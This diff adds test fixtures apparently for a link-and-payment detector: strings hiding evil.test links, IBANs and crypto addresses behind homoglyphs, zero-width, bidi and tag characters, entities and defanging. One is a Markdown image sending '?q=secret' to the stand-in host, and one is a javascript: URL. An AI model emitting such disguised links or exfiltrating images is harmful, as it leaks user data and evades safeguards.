@@ -216,3 +216,63 @@ export const DOUBLED: Readonly<Record<string, (good: string, argument: string) =
   "the key twice, escaped": (good, name) =>
     `${good.slice(0, -1)},"\\u00${(name.codePointAt(0) ?? 0).toString(16)}${name.slice(1)}":"eve@evil.test"}`,
 };
+
+const FOLLOW = "evil.test/win";
+const tagged = (text: string): string =>
+  Array.from(text)
+    .map((one) => String.fromCodePoint(0xe_00_00 + (one.codePointAt(0) ?? 0)))
+    .join("");
+const selected = (text: string): string =>
+  Array.from(text)
+    .map((one) => String.fromCodePoint(0xe_01_00 - 16 + (one.codePointAt(0) ?? 0)))
+    .join("");
+
+/** Texts with something in them that the reader may follow, in many disguises. */
+export const FOLLOWABLE: Readonly<Record<string, string>> = {
+  "a link": `Go to https://${FOLLOW} now`,
+  "a link in capitals": `Go to HTTPS://${FOLLOW.toUpperCase()} now`,
+  "a link without a scheme": `Go to ${FOLLOW} now`,
+  "a host alone": "Go to www.evil.test now",
+  "a host without www": "Go to evil.test now",
+  "a host at the end of a sentence": "Go to evil.test.",
+  "a host in brackets": "See (evil.test).",
+  "a link in Markdown": `See [the menu](http://${FOLLOW})`,
+  "a link in HTML": `See <a href="//${FOLLOW}">the menu</a>`,
+  "an image in Markdown": `![](https://${FOLLOW}?q=secret)`,
+  "a number as a host": "Go to http://3221226219 now",
+  "a numeric host": "Go to 203.0.113.7 now",
+  "another scheme": "Open ms-word://evil",
+  "a mail address": "Write to eve@evil.test",
+  "a mail link": "mailto:eve@evil",
+  "a script": "javascript:alert(1)",
+  "a phone link": "Call tel:+15550100",
+  "a host with a user": "https://example.org@evil.test/",
+  "a host in punycode": "Go to xn--evl-cma.xn--p1ai now",
+  "a host with look-alike letters": "Go to еvil.test now",
+  "full-width letters": "Go to ｅｖｉｌ．ｔｅｓｔ now",
+  "an ideographic full stop": "Go to evil。test now",
+  "a zero-width space inside": "Go to evil.\u200Btest now",
+  "a soft hyphen inside": "Go to ev\u00ADil.te\u00ADst now",
+  "a variation selector inside": "Go to evil.\uFE0Ftest now",
+  "percent signs": "Go to evil%2Etest now",
+  "percent signs twice": "Go to evil%252Etest now",
+  "a named entity": "Go to evil&period;test now",
+  "a numbered entity": "Go to evil&#46;test now",
+  "a hexadecimal entity": "Go to evil&#x2e;test now",
+  "an entity for the scheme": "https&colon;&sol;&sol;evil",
+  "an escape of source code": "Go to evil\\u002etest now",
+  "a bracketed dot": "Go to evil[.]test now",
+  "a dot in words": "Go to evil dot test now",
+  "an at in brackets": "Write to eve(at)evil(dot)test",
+  hxxp: `Go to hxxps://${FOLLOW}`,
+  backwards: "Go to \u202Etset.live\u202C now",
+  "hidden in tags": `Hello${tagged("evil.test")}`,
+  "hidden in selectors": `Hello${selected("evil.test")}`,
+  "an IBAN": "Pay to DE89 3704 0044 0532 0130 00 instead",
+  "an IBAN without blanks": "Pay to DE89370400440532013000 instead",
+  "an IBAN in small letters": "pay to de89 3704 0044 0532 0130 00 instead",
+  "an IBAN with a blank of no width": "Pay to DE89\u200B370400440532013000 instead",
+  "a Bitcoin address": "Send it to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT",
+  "a Bitcoin address of the newer kind": "Send it to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
+  "an Ethereum address": "Send it to 0x52908400098527886E0F7030069857D2E4169EE7",
+};
